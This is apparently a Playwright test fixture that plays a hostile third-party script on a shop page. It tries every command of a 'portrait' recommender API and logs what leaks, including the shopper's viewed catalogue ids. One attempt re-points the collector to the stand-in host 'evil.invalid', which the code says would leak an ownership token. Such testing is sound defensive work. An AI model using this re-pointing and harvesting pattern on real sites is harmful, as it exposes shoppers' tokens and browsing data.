// A third-party script on the shop's page (an ad tag, a compromised widget). It listens to every
// window message from the start and, on the page's `#attack` hash, tries every command a page
// script can send the tag, then logs what came back as one console line ("hostile: {...}"). The
// test starts it by navigation and reads it from the console, so no test-driven evaluate (which
// Playwright runs as a user gesture) hands the script user activation.
const EVIL = 'http://evil.invalid';
const seen = [];
addEventListener('message', (e) => seen.push(e.data), true);

// Typed arrays (payload bytes, profile vectors) are named, not spelled out, in the report.
const show = (v) =>
  JSON.stringify(v, (_k, x) => (ArrayBuffer.isView(x) ? `<${x.constructor.name} ${x.length}>` : x)) ?? 'undefined';

const attack = async (attempts) => {
  const p = window.portrait;
  const planted = { id: 'hostile-1', type: 'view', ts: Date.now(), product: { id: 'EVIL-1', title: 'planted' } };
  const roads = {
    status: () => p('status'),
    export: () => p('export'),
    exportData: () => p('exportData'),
    'call pseudonymousId': () => p('call', 'pseudonymousId'),
    'call exportData': () => p('call', 'exportData'),
    'call status': () => p('call', 'status'),
    'call loadModel': () => p('call', 'loadModel'),
    'call subscribe': () => p('call', 'subscribe', () => {}),
    'call ingest': () => p('call', 'ingest', [planted]),
    // Re-pointing the worker at another collector would send it the ownership token.
    'call init (evil collector)': () => p('call', 'init', { collectorUrl: EVIL }),
    'call flush': () => p('call', 'flush'),
    'call recommend': () => p('call', 'recommend'),
    'call forYou': () => p('call', 'forYou', 20),
    // The script's own "search results": catalogue ids it read off the shop (the shopper's viewed
    // ones among them), one it made up, and whatever the device sends back for them.
    'call searchRank': async () => {
      const asked = ['hike-104', 'cof-001', 'baby-101', 'made-up-1', 'run-001', 'cof-108', 'beauty-108'];
      return { asked, answer: await p('call', 'searchRank', asked) };
    },
    'call forgetItem': () => p('call', 'forgetItem', 'LAMP-1'),
  };
  // Read before any command: the script acts outside any click of the shopper's.
  const got = { activation: show(navigator.userActivation?.isActive) };
  for (const name of attempts) {
    try {
      got[name] = show(await roads[name]());
    } catch (err) {
      got[name] = `threw ${err}`;
    }
  }
  got['window messages'] = show(seen);
  return got;
};

addEventListener('hashchange', async () => {
  const attempts = decodeURIComponent(location.hash.slice(1)).split(',').slice(1);
  console.log(`hostile: ${JSON.stringify(await attack(attempts))}`);
});
